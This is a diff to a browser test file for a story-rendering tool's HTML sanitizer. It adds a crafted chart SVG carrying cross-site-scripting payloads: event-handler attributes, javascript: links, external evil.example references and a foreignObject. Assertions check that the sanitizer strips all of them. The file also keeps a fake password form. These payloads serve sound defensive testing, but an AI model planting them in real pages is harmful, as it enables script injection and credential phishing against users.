@@ -20,6 +20,14 @@ const EVIL_HTML = [
   `<script>${PWN('script')}</script>`,
   `<img src=x onerror="${PWN('img')}">`,
   `<svg onload="${PWN('svg')}"><script>${PWN('svg-script')}</script><a href="javascript:${PWN('svg-a')}"><text>svg-link</text></a></svg>`,
+  // A chart's SVG (what `twinstory build` draws for a ```chart block) with
+  // everything the allow-list must take out of it.
+  `<svg viewBox="0 0 100 40" role="img" id="chart" class="ts-error" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${PWN('chart')}"><title>Diagramm</title><desc>Beschreibung</desc>`
+    + `<style>rect{fill:url(https://evil.example/s.svg#p)}</style><foreignObject width="100" height="40"><img src=x onerror="${PWN('fo')}"><p>fremd</p></foreignObject>`
+    + `<g data-layer="quarters" data-feature="1" tabindex="5" onfocus="${PWN('g')}"><rect x="0" y="0" width="50" height="10" fill="url(https://evil.example/p.svg#p)" stroke="#005ca9" style="fill:red" onmouseover="${PWN('rect')}"/>`
+    + `<animate attributeName="href" to="javascript:${PWN('animate')}"/><set attributeName="onclick" to="${PWN('set')}"/><use href="https://evil.example/x.svg#a" xlink:href="https://evil.example/y.svg#a"/><image href="https://evil.example/x.png"/>`
+    + `<text x="0" y="30" font-size="12" fill="currentColor" filter="url(https://evil.example/f.svg#f)">svg-text</text></g>`
+    + `<g data-feature="1; alert(1)"><a href="javascript:${PWN('svg-a2')}"><circle cx="5" cy="5" r="3"/></a><polyline points="0,0 10,10" fill="none" stroke="currentColor"/></g></svg>`,
   `<iframe srcdoc="<script>parent.__pwned=1</script>" src="https://evil.example/"></iframe>`,
   `<form action="https://evil.example/"><input name=password type=password placeholder=Passwort><button formaction="javascript:${PWN('formaction')}">Anmelden</button></form>`,
   '<dialog open>Bitte Passwort eingeben</dialog>',
@@ -210,7 +218,7 @@ async function assertNothingRan(page, seen) {
   assert.deepEqual(seen.dialogs, [], 'no dialog opened');
   const state = await page.evaluate(() => ({
     pwned: window.__pwned ?? null,
-    injected: [...document.querySelectorAll('iframe, form, input:not([data-act]), button:not(.ts-retry):not(.ts-legend-toggle):not([data-nav]):not([data-act]), dialog, script:not([src]), object, embed, svg, math, base, meta[http-equiv], link:not([rel=stylesheet]), template, video')]
+    injected: [...document.querySelectorAll('iframe, form, input:not([data-act]), button:not(.ts-retry):not(.ts-legend-toggle):not([data-nav]):not([data-act]), dialog, script:not([src]), object, embed, svg:not(.ts-text svg), .ts-text svg :not(g, rect, line, polyline, circle, text, title, desc), math, base, meta[http-equiv], link:not([rel=stylesheet]), template, video')]
       .filter((e) => e.closest('head') === null).map((e) => e.outerHTML.slice(0, 80)),
     onAttributes: [...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames().filter((n) => n.startsWith('on')).map((n) => `${e.tagName} ${n}`)),
     badLinks: [...document.querySelectorAll('a[href]')].map((a) => a.getAttribute('href')).filter((h) => !/^(https?:|mailto:|#|[^:/]*($|[/?#]))/i.test(h) || h.startsWith('//')),
@@ -294,6 +302,27 @@ test('a crafted story.json from the same origin plays, its HTML rebuilt from the
   ]);
   assert.ok(inner.includes('Datenbild'), 'a refused image leaves its description');
   assert.ok(state.images.every((s) => s === null || s.startsWith('http')), `images: ${state.images}`);
+  // The chart's SVG: rebuilt in the SVG namespace with its shapes, text,
+  // name and description and only their plain attributes.
+  const chart = await text.locator('svg[viewBox]').evaluate((svg) => {
+    const attrs = (e) => e.getAttributeNames().sort().map((n) => `${n}=${e.getAttribute(n)}`).join(' ');
+    return {
+      ns: svg.namespaceURI,
+      svg: attrs(svg),
+      tree: [...svg.querySelectorAll('*')].map((e) => `${e.localName}[${attrs(e)}]`),
+      text: svg.textContent,
+    };
+  });
+  assert.equal(chart.ns, 'http://www.w3.org/2000/svg');
+  assert.equal(chart.svg, 'role=img viewBox=0 0 100 40');
+  assert.deepEqual(chart.tree, [
+    'title[]', 'desc[]',
+    'g[data-feature=1 data-layer=quarters]', 'rect[height=10 stroke=#005ca9 width=50 x=0 y=0]',
+    'text[fill=currentColor font-size=12 x=0 y=30]',
+    'g[]', 'polyline[fill=none points=0,0 10,10 stroke=currentColor]',
+  ]);
+  assert.equal(chart.text, 'DiagrammBeschreibungsvg-text');
+  assert.ok(!inner.includes('fremd'), 'a foreignObject leaves nothing');
   assert.deepEqual(seen.problems.filter((p) => !p.startsWith('warning')), [], 'no errors');
   await page.close();
 });
@@ -325,7 +354,7 @@ test('markup in every text field and data value stays text', async () => {
   // Labels.
   await page.waitForFunction((name) => [...document.querySelectorAll('.ts-labels .ts-label')].some((l) => l.textContent.startsWith(name)), V.name);
   // The data table: column names and values.
-  await page.locator('.ts-step').first().locator('summary').click();
+  await page.locator('.ts-step').first().locator('.ts-table > summary').click();
   const table = page.locator('.ts-step').first().locator('.ts-table table');
   await table.waitFor();
   // A field without a reader's name is shown with its underscores as spaces.
@@ -392,7 +421,7 @@ test('a built story plays under a strict Content-Security-Policy without violati
   await page.focus('.ts-canvas');
   await page.keyboard.press('ArrowRight');
   await page.locator('.ts-tooltip').waitFor({ state: 'visible' });
-  await page.locator('.ts-step').last().locator('summary').click();
+  await page.locator('.ts-step').last().locator('.ts-table > summary').click();
   await page.waitForTimeout(300);
   const violations = await page.evaluate(() => window.__violations);
   assert.deepEqual(violations, [], 'no CSP violation');
